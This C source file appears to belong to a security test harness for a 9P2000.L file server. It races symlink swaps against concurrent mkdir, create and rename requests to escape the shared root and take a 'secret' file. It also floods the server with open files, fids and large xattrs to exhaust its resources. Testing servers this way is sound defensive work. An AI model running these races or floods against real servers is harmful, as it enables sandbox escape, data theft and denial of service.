/* Races among simultaneous requests, and resources that could be taken without limit. */
#include "attacks.h"

#define ROUNDS 60
#define BATCH 20u
#define RACE (MORE + 1)

/*
 * The directory of fid MORE becomes a link and a directory again while it is used. The server has
 * a pool of threads, so these overtake each other.
 */
static void put_batch(const char *to, unsigned round)
{
    unsigned slot = 0;
    client_put(slot++, T_UNLINKAT, "dsd", ROOT, "race", REMOVE_DIRECTORY);
    client_put(slot++, T_SYMLINK, "dssd", ROOT, "race", to, 0u);
    for (unsigned i = 0; i < 3; i++) {
        client_put(slot++, T_MKDIR, "dsdd", MORE, "evil", 0755u, 0u);
        client_put(slot++, T_SYMLINK, "dssd", MORE, "evil-link", "/", 0u);
        client_put(slot, T_LCREATE, "dsddd", RACE + slot, "evil-file", RDWR | CREAT, 0644u, 0u);
        slot++;
        client_put(slot++, T_UNLINKAT, "dsd", MORE, "secret", 0u);
        client_put(slot++, T_RENAMEAT, "dsds", MORE, "secret", ROOT, "stolen");
    }
    client_put(slot++, T_UNLINKAT, "dsd", ROOT, "race", 0u);
    client_put(slot++, T_MKDIR, "dsdd", ROOT, "race", 0755u, 0u);
    client_put(slot++, round % 2 ? T_CLUNK : T_STATFS, "d", ROOT + 100);
}

static void clean_race(void)
{
    static const char *const left[] = {"evil", "evil-link", "evil-file"};
    unlink_at(ROOT, "race", 0);
    client_walk(ROOT, FID, "race");
    for (size_t i = 0; i < ARRAY_LEN(left); i++)
        if (unlink_at(FID, left[i], 0) != 0)
            unlink_at(FID, left[i], REMOVE_DIRECTORY);
    client_clunk(FID);
    unlink_at(ROOT, "race", REMOVE_DIRECTORY);
    make_directory(ROOT, "race");
}

void attack_races(void)
{
    int results[BATCH];
    unsigned taken = 0;
    bool answered = true;
    for (unsigned round = 0; round < ROUNDS && answered; round++) {
        clean_race();
        client_walk(ROOT, MORE, "race");
        for (unsigned slot = 0; slot < BATCH; slot++)
            client_walk(MORE, RACE + slot, "");
        put_batch(round % 3 == 0 ? ".." : target, round);
        client_send(BATCH, results);
        for (unsigned slot = 0; slot < BATCH; slot++) {
            client_clunk(RACE + slot);
            answered = answered && results[slot] != NO_ANSWER;
            taken += results[slot] == 0;
        }
        client_clunk(MORE);
    }
    clean_race();
    unlink_at(ROOT, "race", REMOVE_DIRECTORY);
    print("race %s\n", answered ? "answered" : "no-answer");
    print("# %u requests of %u had their way\n", taken, ROUNDS * BATCH);
}

/* The host swaps this directory and a link to the target all the time. */
void attack_swapped(void)
{
    for (unsigned round = 0; round < ROUNDS; round++) {
        client_walk(ROOT, MORE, "swap");
        create_file(MORE, FID, "evil", RDWR | TRUNC);
        client_clunk(FID);
        make_link(MORE, "evil-link", "/");
        make_directory(MORE, "evil-directory");
        unlink_at(MORE, "secret", 0);
        client_call(T_RENAMEAT, "dsds", MORE, "secret", ROOT, "stolen");
        make_directory(ROOT, "mover");
        client_call(T_RENAMEAT, "dsds", ROOT, "mover", MORE, "evil-mover");
        set_attributes(MORE, SET_MODE, 0777, 0);
        client_clunk(MORE);
        open_and_read("swap/secret", RDONLY);
        open_and_read("swap", 0200000u);
    }
    say("swapped", client_call(T_GETATTR, "dq", ROOT, 0x7ffull));
    unlink_at(ROOT, "stolen", 0);
}

#define FILES 20000u
#define FIDS 3000u
#define XATTRS 1000u

static void open_unlinked(void)
{
    unsigned count = 0;
    int result = 0;
    while (count < FILES && result == 0) {
        result = create_file(ROOT, MORE + count, "unlinked", RDWR);
        if (result == 0)
            result = unlink_at(ROOT, "unlinked", 0);
        count++;
    }
    say("open-unlinked", result);
    print("# after %u\n", count);
    /* Everything that takes a descriptor fails now, and the machine goes on. */
    say("full-getattr", client_call(T_GETATTR, "dq", ROOT, 0x7ffull));
    say("full-open", open_and_read("file", RDONLY));
    say("full-mkdir", make_directory(ROOT, "full"));
    for (unsigned i = 0; i < count; i++)
        client_clunk(MORE + i);
    say("freed-open", open_and_read("file", RDONLY));
    unlink_at(ROOT, "unlinked", 0);
    unlink_at(ROOT, "full", REMOVE_DIRECTORY);
}

void attack_resources(void)
{
    unsigned count = 0;
    int result = 0;
    open_unlinked();
    for (; count < FIDS && result == 0; count++)
        result = client_walk(ROOT, MORE + count, "");
    say("many-fids", result);
    for (unsigned i = 0; i < XATTRS && result == 0; i++)
        result = client_call(T_XATTRCREATE, "dsqd", MORE + i, "user.big", 65536ull, 0u);
    say("many-xattrs", result);
    /* A new version message releases everything. */
    say("version-again", client_version(8192, "9P2000.L"));
    say("fid-after-version", client_call(T_GETATTR, "dq", MORE, 0x7ffull));
}
